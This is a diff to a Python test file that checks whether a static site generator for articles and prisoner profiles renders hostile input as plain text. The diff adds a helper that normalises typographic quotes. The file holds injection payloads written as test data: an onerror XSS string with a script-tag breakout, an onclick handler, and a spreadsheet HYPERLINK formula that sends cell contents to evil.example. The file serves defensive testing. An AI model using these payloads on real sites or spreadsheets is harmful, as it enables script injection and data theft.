@@ -25,6 +25,13 @@ def hostile(tag: str) -> str:
     return f'{tag} <img src=x onerror=alert(1)> "q" & </script><b id="{tag}">'
 
 
+def quotes_free(text: str) -> str:
+    """Text with typographic double quotes as straight ones: titles and registry texts get the
+    language's quotation marks (issue 17, content_model/typography.py), which is presentation;
+    what these tests hold is that every other character is shown as typed, as text."""
+    return re.sub("[“”„«»]", '"', text)
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Donate")'
 
 
@@ -76,13 +83,13 @@ def _no_injected_markup(soup) -> None:
 def test_title_is_text_in_heading_title_meta_and_listings(hostile_site):
     page = hostile_site.html("articles/hostile/index.html")
     _no_injected_markup(page)
-    assert page.select_one("h1").get_text() == TITLE
-    assert page.title.get_text().startswith(TITLE + " · ")
-    assert page.select_one('meta[property="og:title"]')["content"].startswith(TITLE)
+    assert quotes_free(page.select_one("h1").get_text()) == TITLE
+    assert quotes_free(page.title.get_text()).startswith(TITLE + " · ")
+    assert quotes_free(page.select_one('meta[property="og:title"]')["content"]).startswith(TITLE)
     for listing in ("index.html", "archives/index.html", "category/news/index.html"):
         soup = hostile_site.html(listing)
         _no_injected_markup(soup)
-        assert TITLE in [a.get_text() for a in soup.select("main a")], listing
+        assert TITLE in [quotes_free(a.get_text()) for a in soup.select("main a")], listing
 
 
 def test_article_metadata_lists_are_text(hostile_site):
@@ -120,7 +127,7 @@ def test_profile_fields_are_text(hostile_site):
     soup = hostile_site.html("prisoners/anna-test/index.html")
     _no_injected_markup(soup)
     assert soup.select_one("h1").get_text() == "Anna Test <i>Family</i> & Co"
-    text = soup.select_one("article.profile").get_text()
+    text = quotes_free(soup.select_one("article.profile").get_text())
     for tag in ("occupation", "charge", "detention", "source", "support", "timeline",
                 "letters"):
         assert hostile(tag) in text, tag
@@ -136,7 +143,7 @@ def test_json_ld_is_data_that_cannot_close_its_script(hostile_site):
     data = json.loads(block)
     assert data["name"] == "Anna Test <i>Family</i> & Co"
     assert ALIAS in data["alternateName"]
-    assert data["description"] == hostile("occupation")
+    assert quotes_free(data["description"]) == hostile("occupation")
 
 
 def test_prisoners_json_and_mentions_json_hold_the_characters_typed(hostile_site):
@@ -146,7 +153,7 @@ def test_prisoners_json_and_mentions_json_hold_the_characters_typed(hostile_site
     assert anna["names"]["en"]["family"] == "Test <i>Family</i> & Co"
     assert anna["occupation"]["en"] == hostile("occupation")
     mentions = json.loads((hostile_site.out_dir / "mentions.json").read_text(encoding="utf-8"))
-    titles = [m["title"] for m in mentions["people"]["anna-test"]]
+    titles = [quotes_free(m["title"]) for m in mentions["people"]["anna-test"]]
     assert titles == [TITLE]
 
 
@@ -197,15 +204,15 @@ def test_translated_title_is_text_on_the_page_and_in_mentions_json(tmp_path):
     settings_with(tmp_path / "settings.py", CONTENT_TRANSLATIONS_DIR=str(tmp_path / "po"))
     extract(tmp_path)
     title = 'Дело <b onclick="x()">A</b> & «B»'
-    translate(tmp_path, "ru", {**RU, "title": title, "paragraph.2": "Второй абзац."})
+    translate(tmp_path, "ru", {**RU, "title": title, "Second paragraph.": "Второй абзац."})
     site = build(tmp_path)
     assert site.returncode == 0, site.output
     page = site.html("ru/articles/case/index.html")
-    assert page.select_one("h1").get_text() == title
+    assert quotes_free(page.select_one("h1").get_text()) == quotes_free(title)
     assert not page.select("b[onclick]")
     mentions = json.loads((site.out_dir / "mentions.json").read_text(encoding="utf-8"))
     titles = {m["lang"]: m["title"] for m in mentions["people"]["anna-test"]}
-    assert titles["ru"] == title
+    assert quotes_free(titles["ru"]) == quotes_free(title)
 
 
 def test_registry_catalogue_bio_cannot_add_a_live_link_or_a_tracker(tmp_path):
